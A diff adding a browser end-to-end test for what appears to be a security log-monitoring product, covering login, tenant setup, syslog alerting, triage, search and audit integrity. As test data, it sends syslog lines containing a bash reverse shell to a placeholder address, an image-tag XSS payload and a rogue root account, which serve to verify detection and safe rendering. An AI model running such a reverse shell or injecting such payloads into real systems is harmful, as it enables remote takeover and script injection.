@@ -1,0 +1,103 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Browser, Page } from 'playwright-core';
+import { browserPath, datagram, password, startBrowser, startProduct, type Product } from './product';
+
+const chromium = browserPath();
+if (!chromium) console.warn('SKIPPED: browser tests, no Chromium found');
+
+describe.skipIf(!chromium)('the main job, by hand', () => {
+  let product: Product;
+  let browser: Browser;
+  let page: Page;
+  const errors: string[] = [];
+
+  beforeAll(async () => {
+    product = await startProduct();
+    browser = await startBrowser(chromium!);
+    const context = await browser.newContext({ locale: 'zh-CN', viewport: { width: 1440, height: 900 } });
+    page = await context.newPage();
+    page.on('pageerror', (error) => errors.push(String(error)));
+    page.on('console', (message) => {
+      // The first question of a fresh browser, who am I, is answered 401.
+      if (message.type() === 'error' && !message.text().includes('401')) errors.push(message.text());
+    });
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await product?.stop();
+  });
+
+  it('logs in', async () => {
+    await page.goto(product.http);
+    await page.getByLabel('用户名').fill('admin');
+    await page.getByLabel('密码').fill('wrong-passphrase');
+    await page.getByRole('button', { name: '登录' }).click();
+    await page.getByRole('alert').first().waitFor();
+    await page.getByLabel('密码').fill(password);
+    await page.getByRole('button', { name: '登录' }).click();
+    await page.getByRole('heading', { name: '告警' }).waitFor();
+  });
+
+  it('makes a customer', async () => {
+    await page.getByRole('link', { name: '客户', exact: true }).click();
+    await page.getByRole('button', { name: '新增客户' }).click();
+    await page.getByLabel('名称').fill('示例医院');
+    await page.getByLabel('标识').fill('hospital');
+    await page.getByRole('button', { name: '创建' }).click();
+    await page.getByRole('table').getByText('示例医院').waitFor();
+  });
+
+  it('makes a source that takes syslog from this machine', async () => {
+    await page.goto(`${product.http}/sources?tenant=hospital`);
+    await page.getByRole('button', { name: '新建日志源' }).click();
+    await page.getByLabel('名称').fill('门诊服务器');
+    const senders = page.getByLabel('发送方地址');
+    await senders.fill('127.0.0.1/32');
+    await senders.press('Enter');
+    await page.getByLabel('名称').click();
+    await page.getByRole('button', { name: '创建' }).click();
+    await page.getByText('令牌只显示这一次').waitFor();
+    await page.getByRole('button', { name: '已妥善保存' }).click();
+    await page.getByRole('table').getByText('门诊服务器').waitFor();
+  });
+
+  it('raises an alert from syslog', async () => {
+    const stamp = new Date().toUTCString().replace(/^\w+, (\d+) (\w+) \d+ ([\d:]+) GMT$/, (_, day: string, month: string, time: string) => `${month} ${day.replace(/^0/, ' ')} ${time}`);
+    await datagram(product.syslog, `<86>${stamp} his-db01 sudo: nobody : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.66/4444 0>&1`);
+    await datagram(product.syslog, `<86>${stamp} his-db01 useradd[4711]: new user: name=<img src=x onerror=alert(1)>, UID=0, GID=0, home=/root, shell=/bin/bash`);
+    await datagram(product.syslog, `<86>${stamp} his-db01 useradd[4712]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash`);
+    await page.goto(`${product.http}/alerts?tenant=hospital`);
+    await page.getByRole('table').getByText('his-db01').first().waitFor({ timeout: 30_000 });
+  });
+
+  it('shows why it fired and takes a verdict', async () => {
+    await page.getByRole('table').getByText('his-db01').first().click();
+    await page.getByText('告警原因').first().waitFor();
+    await page.getByRole('button', { name: /^确\s*认$/ }).click();
+    await page.getByRole('button', { name: /^闭\s*环$/ }).first().click();
+    await page.getByLabel('研判结论').click();
+    await page.getByTitle('真实攻击，有影响').click();
+    await page.getByLabel('依据').fill('已与客户确认：非授权账户');
+    await page.getByRole('dialog').getByRole('button', { name: /^闭\s*环$/ }).click();
+    await page.getByRole('button', { name: '重新打开' }).waitFor();
+    expect(await page.locator('main').innerText()).toContain('已与客户确认');
+  });
+
+  it('finds the records and renders a hostile one as text', async () => {
+    await page.goto(`${product.http}/search?tenant=hospital&q=${encodeURIComponent('onerror')}`);
+    await page.getByText(/onerror/).first().waitFor({ timeout: 30_000 });
+    await page.locator('main table').getByText(/onerror/).first().waitFor();
+    expect(await page.locator('img[src="x"]').count()).toBe(0);
+  });
+
+  it('shows it all in the audit and proves the chain', async () => {
+    await page.goto(`${product.http}/audit?tenant=hospital`);
+    await page.getByText('alert.closed').first().waitFor();
+    await page.getByRole('button', { name: '校验完整性' }).click();
+    await page.getByText(/完整，共/).waitFor();
+  });
+
+  it('made no error in the browser', () => {
+    expect(errors).toEqual([]);
+  });
+});
